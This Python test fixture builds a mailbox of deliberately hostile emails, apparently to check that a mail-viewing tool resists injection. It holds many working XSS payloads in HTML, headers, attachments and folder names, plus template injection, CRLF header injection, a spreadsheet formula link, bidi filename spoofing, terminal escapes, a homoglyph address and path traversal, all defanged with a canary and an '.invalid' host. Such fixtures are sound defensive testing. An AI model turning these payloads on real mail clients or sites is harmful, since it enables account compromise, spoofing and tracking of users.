"""Mail whose writer wants whoever reads it to run, load, send, mistake or break something.

Every payload that could run sets `window.canary`; every address that could be asked lies below
`tracker.invalid`, a name that cannot exist (RFC 6761). Each mail bears the word "haven".
"""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path

RUNS = "window.canary=1;alert(1)"
ELSEWHERE = "http://tracker.invalid"
SCRIPT = f"<script>{RUNS}</script>"
IMAGE = f'"><img src=x onerror="{RUNS}">'
TEMPLATE = "{{ 1234 * 5678 }}{% for x in range(9) %}{{ x }}{% endfor %}{# #} %(num)s %s {0} ${1+1}"
TURNED = "Verklaring\u202egnp.exe \u2067\u2068\u202d ongesloten \u200f\u200e\u061c"
ANSI = "\x1b[31mrood\x1b[0m \x1b]0;titel\x07 \x1b[2J\x1b[1;1H \x9b31m \x08\x08\x08"
LOOKS_LIKE = "\u0430nna@test.example"
"""Begins with a Cyrillic letter that looks like the Latin one."""
STACKED = "h" + "\u0316\u0317\u0318\u0319\u0300\u0301\u0302\u0303" * 60 + "aven"
FORMULA = f'=HYPERLINK("{ELSEWHERE}/f","haven")'
NEW_LINE = "Bram\r\nX-Canary: 1"
LONG_LINE = 10_000_000
LONGEST_WORD = 200_000
"""Characters without a blank at the beginning of the long line."""

PAGE = f"""<!DOCTYPE html></bdi></p></td></table></main></textarea></title></style>--> ]]>
<html><head><title>haven</title><base href="{ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">
<link rel="stylesheet" href="{ELSEWHERE}/x.css"><style>body {{ display: none }}
* {{ background: url({ELSEWHERE}/css.gif) }}</style></head>
<body onload="{RUNS}">{SCRIPT}<script src="{ELSEWHERE}/x.js"></script>
<img src="{ELSEWHERE}/pixel.gif?who=1" width="1" height="1"><img src=x onerror="{RUNS}">
<svg onload="{RUNS}"><a xlink:href="javascript:{RUNS}"><text y="20">haven</text></a></svg>
<a href="javascript:{RUNS}">haven</a> <a href="data:text/html,{SCRIPT}">haven</a>
<iframe src="javascript:{RUNS}"></iframe><iframe srcdoc="{SCRIPT}"></iframe>
<form action="{ELSEWHERE}/form"><input name="password" autofocus onfocus="{RUNS}"></form>
<object data="{ELSEWHERE}/x.swf"></object><video src="{ELSEWHERE}/v" onerror="{RUNS}"></video>
<details open ontoggle="{RUNS}"><math><mtext><img src=x onerror="{RUNS}"></math>
<template><script>{RUNS}</script></template><noscript><img src=x onerror="{RUNS}"></noscript>
{TEMPLATE}</body></html>"""


def encoded(words: str) -> str:
    """Return words as headers carry them (RFC 2047), whatever they hold."""
    return f"=?utf-8?b?{b64encode(words.encode('utf-8', 'surrogatepass')).decode()}?="


def message(
    number: int, body: bytes, *, subject: str = "haven", kind: str = "text/plain", **fields: str
) -> bytes:
    """Return a mail; header fields are given as they are to stand there."""
    headers = {
        "From": "Bram <bram@test.example>",
        "To": "anna@test.example",
        "Date": f"Tue, 19 Apr 2016 09:{number:02}:00 +0200",
        "Message-ID": f"<h{number}@test.example>",
        "Subject": subject,
        "MIME-Version": "1.0",
        "Content-Type": f"{kind}; charset=utf-8" if kind.startswith("text/") else kind,
        "Content-Transfer-Encoding": "8bit",
        **{name.replace("_", "-"): value for name, value in fields.items()},
    }
    head = "".join(f"{name}: {value}\n" for name, value in headers.items())
    return head.encode("utf-8", "surrogatepass") + b"\n" + body


def attached(name: str, kind: str, content: bytes) -> bytes:
    """Return the body of a mail in parts, one of them attached under a name and type."""
    return (
        b"--grens\nContent-Type: text/plain\n\nzie de haven\n"
        + f'--grens\nContent-Type: {kind}; name="{name}"\n'.encode()
        + f'Content-Disposition: attachment; filename="{name}"\n'.encode()
        + b"Content-Transfer-Encoding: base64\n\n"
        + b64encode(content)
        + b"\n--grens--\n"
    )


Tries = dict[str, tuple[bytes, dict[str, str]]]
"""Bodies and header fields, each by what it tries."""


def mails() -> dict[str, bytes]:
    """Return the corpus, each by what it tries."""
    tries = {**markup(), **characters(), **lengths(), **mistakable(), **attachments()}
    tries |= {
        "line ends of others": ("haven\u2028haven\u2029haven\x0bhaven\x0chaven\x85\n".encode(), {}),
    }
    return {
        name: message(number, body, **fields)
        for number, (name, (body, fields)) in enumerate(tries.items())
    }


def markup() -> Tries:
    """Pages, tags and templates where words are expected."""
    return {
        "a page": (PAGE.encode(), {"kind": "text/html"}),
        "a page as text": (PAGE.encode(), {}),
        "tags in fields": (
            b"haven\n",
            {
                "subject": encoded(f"haven {IMAGE}{SCRIPT}</title>"),
                "From": f"{encoded(IMAGE)} <bram@test.example>",
                "To": f"{encoded(SCRIPT)} <anna@test.example>",
                "Message_ID": f"<{IMAGE.replace(' ', '/')}@test.example>",
            },
        ),
        "tags in an address": (
            b"haven\n",
            {"From": f'"<svg/onload={RUNS}>"@test.example'},
        ),
        "a template": (
            f"haven {TEMPLATE}\n".encode(),
            {"subject": f"haven {TEMPLATE}", "From": f'"{TEMPLATE}" <bram@test.example>'},
        ),
    }


def characters() -> Tries:
    """Characters that turn the line, command a terminal, or cannot be written."""
    return {
        "turned": (
            f"haven {TURNED}\n".encode(),
            {
                "subject": encoded(f"haven {TURNED}"),
                "From": f"{encoded(TURNED)} <bram@test.example>",
            },
        ),
        "escapes": (f"haven {ANSI}\n".encode(), {"subject": encoded(f"haven {ANSI}")}),
        "nulls": (b"haven\0haven\0\x01\x02\n", {"subject": encoded("haven \0 niets")}),
        "surrogates": (
            b"haven \xed\xa0\x80 \xff\xfe \xed\xb0\x80\n",
            {
                "subject": f"{encoded('haven ' + chr(0xD800))} =?utf-7?q?+2AA-?=",
                "From": f"{encoded(chr(0xDC00))} <bram@test.example>",
            },
        ),
        "surrogates by a charset": (
            b"haven +2AA- +3wA-\n",
            {"Content_Type": "text/plain; charset=utf-7"},
        ),
    }


def lengths() -> Tries:
    """Words, lines and stacked marks without an end."""
    long = b"w" * LONGEST_WORD + b" haven " + b"nog een haven " * (LONG_LINE // 14)
    return {
        "long names": (
            b"haven\n",
            {
                "subject": "haven " + "S" * 5000,
                "From": f'"{"N" * 5000}" <bram@test.example>',
                "To": f'"{"T" * 5000}" <anna@test.example>',
            },
        ),
        "a long line": (long, {}),
        "stacked": (f"haven {STACKED}\n".encode(), {"subject": encoded(f"haven {STACKED}")}),
    }


def mistakable() -> Tries:
    """What is taken for an address, a header or a number that it is not."""
    return {
        "looks like another": (b"haven\n", {"From": LOOKS_LIKE}),
        "new header lines": (
            b"haven\n",
            {
                "subject": encoded("haven\r\nSet-Cookie: canary=1\r\n\r\n<b>haven"),
                "From": f"{encoded(NEW_LINE)} <bram@test.example>",
            },
        ),
        "a formula": (
            FORMULA.encode(),
            {
                "subject": FORMULA,
                "From": f'"{FORMULA.replace(chr(34), chr(39))}" <"=1+1"@test.example>',
            },
        ),
    }


def attachments() -> Tries:
    """Files whose names and types say that they could run."""
    parts = "multipart/mixed; boundary=grens"
    return {
        "an attached page": (
            attached('haven"><script>canary=1</script>.html', "text/html", PAGE.encode()),
            {"kind": parts},
        ),
        "an attached picture": (
            attached("../../haven.svg", "image/svg+xml", f"<svg onload='{RUNS}'/>".encode()),
            {"kind": parts},
        ),
        "an attached script": (
            attached("haven.js", "text/javascript", RUNS.encode()),
            {"kind": parts},
        ),
    }


def copy(folder: Path) -> Path:
    """Write the corpus as the mailbox of one account, and return `folder`."""
    boxes = ("cur", f".haven<img src=x onerror={RUNS.replace('.', '&period;')}>/cur")
    for number, content in enumerate(mails().values()):
        box = folder / "mail" / "anna@test.example" / "Maildir" / boxes[number % 5 == 4]
        box.mkdir(parents=True, exist_ok=True)
        name = f"{1461049200 + number}.M{number:06d}P1.mx.test.example:2,S"
        (box / name).write_bytes(content)
    return folder


ORDER = f"""
number = "RC-13 <b>vet</b>"
magistrate = "Investigating judge 3"
investigation = "Adder"
offences = ["fraud {IMAGE.replace('"', "'")}"]
issued = 2016-05-02T09:30:00+01:00
expires = 2099-12-31T00:00:00+01:00
purpose = "to look at {IMAGE.replace('"', "'")} {{{{ 1234 * 5678 }}}}"
[[clause]]
name = "all of <script>{RUNS}</script>"
accounts = ["anna@test.example"]
from = 2016-01-01T00:00:00Z
until = 2017-01-01T00:00:00Z
"""
"""An order whose words are as hostile: templates show them too."""
NOTE = f"{SCRIPT}{IMAGE}{TURNED}{TEMPLATE}"
TAG = f"<b onclick={RUNS}>x"
"""What a colleague could write beside a message."""
